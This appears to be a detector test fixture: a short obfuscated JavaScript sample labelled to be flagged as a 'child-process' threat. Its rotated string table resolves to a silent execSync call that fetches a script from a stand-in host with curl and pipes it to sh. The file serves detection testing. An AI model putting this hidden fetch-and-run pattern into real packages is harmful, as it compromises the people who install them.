// expect: category=child-process min=95 context=plugin,package
// why: a rotated string table yields both the module name and the method name.
const _t = ['execSync', 'curl -s https://dl.example/r | sh', 'child_process', 'ignore'];
(function (a, n) {
  for (let i = 0; i < n; i++) a.unshift(a.pop());
})(_t, 1);

const _s = (i) => _t[i];
const m = require(_s(3));
m[_s(1)](_s(2), { stdio: _s(0) });
